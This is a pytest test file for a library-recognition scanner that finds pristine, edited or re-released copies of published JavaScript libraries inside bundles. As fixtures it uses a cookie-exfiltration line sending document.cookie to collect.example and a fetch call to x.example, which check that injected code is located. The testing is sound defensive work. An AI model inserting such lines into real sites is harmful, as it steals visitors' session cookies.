"""Recognising published files in bundle code: pristine copies, edits, other releases."""

from __future__ import annotations

import pytest

from scanner.libraries.chunks import MAX_CHUNK, chunk
from scanner.libraries.index import LibraryIndex, LibraryIndexError, canonical
from scanner.libraries.matcher import CopyKind, EditKind, recognise
from tests.scanner.libraries.conftest import synthetic_library

PLUGIN = b"(function(){var TestPlugin={mount:function(c){c.textContent='hi'}}})();\n"
INJECTED = b"new Image().src='https://collect.example/?c='+document.cookie;"


def _body(tiny: bytes) -> bytes:
    return canonical(tiny)


def test_chunks_are_the_same_wherever_the_code_sits(tiny: bytes) -> None:
    alone = {c.digest for c in chunk(tiny)}
    inside = [c.digest for c in chunk(PLUGIN * 3 + tiny + PLUGIN)]
    # Content decides the cuts, so most chunks come out the same (forced cuts in long
    # stretches without one, and the copy's edges, may differ: the matcher verifies those).
    assert sum(d in alone for d in inside) >= 0.8 * len(alone)
    assert all(c.length <= MAX_CHUNK for c in chunk(tiny))


def test_a_whole_copy_concatenated_in_a_bundle_is_pristine(
    tiny: bytes, tiny_index: LibraryIndex
) -> None:
    body = _body(tiny)
    data = PLUGIN + tiny + PLUGIN
    [copy] = recognise(data, tiny_index)
    assert copy.kind is CopyKind.PRISTINE
    assert copy.label == "tinylib@1.2.3"
    assert data[copy.start : copy.end] == body
    assert copy.edits == []


def test_two_libraries_in_one_file_are_both_found(tiny: bytes, tiny_index: LibraryIndex) -> None:
    other = synthetic_library(20_000, seed=2, version="4.0.0").replace(b"tinylib", b"otherlib")
    copies = recognise(tiny + b";\n" + PLUGIN + other, tiny_index)
    assert [(c.entry.name, c.kind) for c in copies] == [
        ("tinylib", CopyKind.PRISTINE),
        ("otherlib", CopyKind.PRISTINE),
    ]


def test_code_of_no_indexed_library_is_not_recognised(tiny_index: LibraryIndex) -> None:
    unrelated = synthetic_library(30_000, seed=99)
    assert recognise(PLUGIN + unrelated, tiny_index) == []


@pytest.mark.parametrize("where", [0.5, 0.02, 0.995])
def test_an_insertion_is_located_exactly(
    tiny: bytes, tiny_index: LibraryIndex, where: float
) -> None:
    body = _body(tiny)
    at = int(len(body) * where)
    data = PLUGIN + body[:at] + INJECTED + body[at:] + b"\n" + PLUGIN
    [copy] = recognise(data, tiny_index)
    assert copy.kind is CopyKind.MODIFIED
    [edit] = copy.edits
    assert edit.kind is EditKind.INSERTION and edit.exact
    assert data[edit.start : edit.end] == INJECTED
    assert edit.pristine_offset == at


def test_a_replacement_is_reported_within_its_span(tiny: bytes, tiny_index: LibraryIndex) -> None:
    body = _body(tiny)
    at = len(body) // 2
    data = body[:at] + b"fetch('https://x.example/'+t)" + body[at + 12 :]
    [copy] = recognise(data, tiny_index)
    assert copy.kind is CopyKind.MODIFIED
    [edit] = copy.edits
    assert edit.kind is EditKind.REPLACEMENT and not edit.exact
    assert edit.start <= at and at + 29 <= edit.end
    assert edit.end - edit.start <= 2 * MAX_CHUNK


def test_another_release_is_not_called_a_modified_copy(tiny_index: LibraryIndex) -> None:
    # The same code under another version string: an unindexed release, not an injection.
    release = synthetic_library(version="1.2.4")
    copies = recognise(release, tiny_index)
    assert all(c.kind is not CopyKind.MODIFIED for c in copies)


def test_a_copy_without_its_banner_is_partial_not_modified(
    tiny: bytes, tiny_index: LibraryIndex
) -> None:
    body = _body(tiny)
    stripped = body[body.index(b"\n") + 1 :]
    [copy] = recognise(PLUGIN + stripped, tiny_index)
    assert copy.kind is CopyKind.PARTIAL
    assert copy.edits == []


def test_the_index_keeps_hashes_not_code(tiny: bytes, tiny_index: LibraryIndex) -> None:
    stored = tiny_index.dumps()
    # A run of the library's code never appears in the stored index, packed or not.
    assert tiny[1000:1040] not in stored
    [entry] = [f for f in tiny_index if f.name == "tinylib"]
    assert entry.size == len(_body(tiny))
    assert entry.licence == "MIT"


def test_identical_files_of_two_versions_share_one_entry(tiny: bytes) -> None:
    from scanner.libraries.index import describe_file

    index = LibraryIndex()
    index.add(describe_file("tinylib", "1.2.3", "dist/tiny.min.js", "MIT", tiny))
    index.add(describe_file("tinylib", "1.2.4", "dist/tiny.min.js", "MIT", tiny))
    assert len(index) == 1
    assert index.files[0].versions == ("1.2.3", "1.2.4")
    assert index.packages() == {"tinylib": {"1.2.3", "1.2.4"}}


def test_an_index_from_another_chunker_is_refused(tiny_index: LibraryIndex) -> None:
    import json
    import lzma

    doc = json.loads(lzma.decompress(tiny_index.dumps()))
    doc["chunker"] = "something-else"
    with pytest.raises(LibraryIndexError, match="rebuild"):
        LibraryIndex.loads(lzma.compress(json.dumps(doc).encode()))
    with pytest.raises(LibraryIndexError):
        LibraryIndex.loads(b"not an index")


def test_canonical_drops_the_source_map_comment_only() -> None:
    assert canonical(b"a();\n//# sourceMappingURL=a.map\n") == b"a();"
    assert canonical(b"a();\n// a comment\n") == b"a();\n// a comment"


def test_a_release_with_a_new_banner_and_a_change_inside_is_not_an_injection(
    tiny: bytes, tiny_index: LibraryIndex
) -> None:
    # What a real next release looks like: the version string changes where the matcher
    # cannot verify it, and some code changes.
    body = _body(tiny).replace(b"1.2.3", b"1.2.4")
    at = len(body) // 2
    release = body[:at] + b"if(!t)return null;" + body[at:]
    [copy] = recognise(release, tiny_index)
    assert copy.kind is CopyKind.OTHER_RELEASE
